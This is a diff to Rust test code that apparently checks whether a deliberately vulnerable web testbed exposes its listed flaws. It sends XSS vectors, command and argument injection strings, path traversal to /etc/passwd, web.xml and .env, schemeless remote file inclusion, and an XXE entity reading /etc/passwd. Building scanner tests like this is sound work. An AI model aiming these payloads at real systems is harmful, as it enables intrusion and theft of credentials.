@@ -233,6 +233,56 @@ async fn xss(ctx: &Ctx, id: &str) -> bool {
                 tag,
             )
         }
+        "xss-js-url" | "xss-safe-js-url" | "xss-safe-script-src" => {
+            let (p, name) = match id {
+                "xss-safe-script-src" => ("/links/embed.php".to_owned(), "cdn"),
+                _ => (case_path(id), "site"),
+            };
+            let r = ctx.get(&p, &[(name, "javascript:alert(9137)")]).await;
+            Regex::new(r#"<(a|iframe)\s[^>]*(href|src)="javascript:alert\(9137\)""#)
+                .unwrap()
+                .is_match(&r.body)
+        }
+        "xss-js-line-comment" | "xss-safe-js-comment" => has(
+            ctx.get(&case_path(id), &[(case_param(id), "x\nalert(9137)//")])
+                .await,
+            "\nalert(9137)//",
+        ),
+        "xss-js-block-comment" => has(
+            ctx.get("/links/promo.php", &[("code", "*/alert(9137)/*")])
+                .await,
+            "*/alert(9137)/*",
+        ),
+        "xss-tag-name" | "xss-safe-tag-name" => has(
+            ctx.get(&case_path(id), &[("level", "svg onload=alert(9137) x")])
+                .await,
+            "<svg onload=alert(9137) x>",
+        ),
+        "xss-attr-name" => has(
+            ctx.get(
+                "/links/widget.php",
+                &[("flag", "onmouseover=alert(9137) x")],
+            )
+            .await,
+            "class=\"widget\" onmouseover=alert(9137) x>",
+        ),
+        "xss-quote-only" | "xss-safe-quote-only" => {
+            let p = case_path(id);
+            let plain = ctx.get(&p, &[("username", "hiker9137")]).await;
+            assert!(
+                !plain.body.contains("hiker9137"),
+                "{id} echoes only special input"
+            );
+            has(ctx.get(&p, &[("username", tag)]).await, tag)
+        }
+        "xss-filtered" | "xss-safe-filtered" => {
+            let v = "<svg/onload=alert&#40;9137&#41;>";
+            has(ctx.get(&case_path(id), &[(case_param(id), v)]).await, v)
+        }
+        "xss-sniffed" | "xss-safe-sniffed" => {
+            let r = ctx.get(&case_path(id), &[("msg", tag)]).await;
+            r.header("content-type").is_none() && r.body == tag
+        }
         "xss-stored-guestbook" | "xss-stored-safe" => {
             let (p, field) = if id.contains("safe") {
                 ("/reviews.php", "text")
@@ -289,6 +339,32 @@ async fn inject(ctx: &Ctx, id: &str) -> bool {
                         .post(ctx.url("/tools/lookup.php"))
                         .form(&[("host", "localhost")]),
                 )
+                .await;
+            slow >= SLOW && fast < SLOW
+        }
+        "cmdi-exec-command" | "cmdi-exec-safe" => {
+            let p = case_path(id);
+            ctx.get(&p, &[("task", "expr 1200 + 37")])
+                .await
+                .body
+                .contains("1237")
+        }
+        "cmdi-exec-windows" => ctx
+            .get("/ops/winrun.aspx", &[("cmd", "cmd /c set /a 1200*3")])
+            .await
+            .body
+            .contains("3600"),
+        "cmdi-exec-arg" | "cmdi-exec-arg-safe" => {
+            let p = case_path(id);
+            let slow = ctx
+                .timed(
+                    ctx.client
+                        .get(ctx.url(&p))
+                        .query(&[("host", "127.0.0.1 -c 2")]),
+                )
+                .await;
+            let fast = ctx
+                .timed(ctx.client.get(ctx.url(&p)).query(&[("host", "127.0.0.1")]))
                 .await;
             slow >= SLOW && fast < SLOW
         }
@@ -364,6 +440,43 @@ async fn files(ctx: &Ctx, id: &str) -> bool {
                     .await,
             ) || passwd(ctx.get("/view.php", &[("doc", "/etc/passwd")]).await)
         }
+        "pt-webinf" | "pt-safe-webinf" => ctx
+            .get(&case_path(id), &[("page", "../WEB-INF/web.xml")])
+            .await
+            .body
+            .contains("&lt;web-app"),
+        "pt-dotenv" | "pt-safe-template" => {
+            let p = case_path(id);
+            let passwd_refused = !passwd(ctx.get(&p, &[("tpl", "../../../../etc/passwd")]).await);
+            assert!(passwd_refused, "{id}: system files stay out of reach");
+            ctx.get(&p, &[("tpl", "../.env")])
+                .await
+                .body
+                .contains("DB_PASSWORD=")
+        }
+        "pt-double-decode" => passwd(
+            ctx.get(
+                "/library/asset.php",
+                &[("f", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")],
+            )
+            .await,
+        ),
+        "rfi-scheme-variants" | "rfi-safe-scheme" => {
+            let t = ctx.token();
+            let p = case_path(id);
+            let plain = ctx
+                .get(&p, &[("src", &format!("{}/rfi-{t}.txt", ctx.oob.base))])
+                .await;
+            assert!(
+                !plain.body.contains("RFIOK9137"),
+                "{id}: http:// is refused"
+            );
+            let schemeless = ctx.oob.base.replacen("http:", "", 1);
+            let r = ctx
+                .get(&p, &[("src", &format!("{schemeless}/rfi-{t}.txt"))])
+                .await;
+            ctx.oob.hit(&t) && r.body.contains("RFIOK9137")
+        }
         "rfi-include" | "rfi-safe" => {
             let t = ctx.token();
             let (p, name) = if id == "rfi-safe" {
@@ -381,6 +494,14 @@ async fn files(ctx: &Ctx, id: &str) -> bool {
             .await
             .body
             .starts_with("ref: refs/"),
+        "sf-copy" | "sf-numbered" | "sf-safe-copy" => {
+            let r = ctx.get(&case_path(id), &[]).await;
+            r.status == 200 && r.body.contains("<?php")
+        }
+        "sf-archive" | "sf-safe-archive" => {
+            let r = ctx.get(&case_path(id), &[]).await;
+            r.status == 200 && r.body.starts_with("PK\u{3}\u{4}")
+        }
         "sf-backup-sql" => ctx
             .get("/backup.sql", &[])
             .await
@@ -424,6 +545,15 @@ async fn files(ctx: &Ctx, id: &str) -> bool {
     }
 }
 
+fn case_param(id: &str) -> &'static str {
+    let p = rampart_testbed::manifest()
+        .into_iter()
+        .find(|c| c.id == id)
+        .and_then(|c| c.parameter)
+        .unwrap();
+    Box::leak(p.into_boxed_str())
+}
+
 fn case_path(id: &str) -> String {
     rampart_testbed::manifest()
         .into_iter()
@@ -452,6 +582,18 @@ async fn oob(ctx: &Ctx, id: &str) -> bool {
                 )
                 .await;
             r.status == 202 && ctx.oob.wait(&t, Duration::from_secs(5)).await
+        }
+        "xxe-script" | "xxe-json-xml" | "xxe-safe-json" => {
+            let file = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r><t>&e;</t></r>"#;
+            let r = ctx
+                .send(
+                    ctx.client
+                        .post(ctx.url(&case_path(id)))
+                        .header("content-type", "application/xml")
+                        .body(file),
+                )
+                .await;
+            r.body.contains("root:x:0:0:")
         }
         "xxe-import" | "xxe-safe" => {
             let p = if id == "xxe-safe" {
@@ -628,6 +770,9 @@ async fn passive(ctx: &Ctx, c: &Case) -> bool {
         .iter()
         .any(|s| r.body.contains(s)),
         "private_ip_disclosure" => private_ip.is_match(&r.body),
+        "secrets_exposure" => ["Xk9!vR2#pLq", "AKIA2E0A8F3B244C9986"]
+            .iter()
+            .any(|s| r.body.contains(s)),
         "password_over_http" => {
             let plain = ctx.send(ctx.client.get(ctx.url(&c.path))).await;
             (password_input.is_match(&r.body) && on(ctx, c).starts_with("http:"))
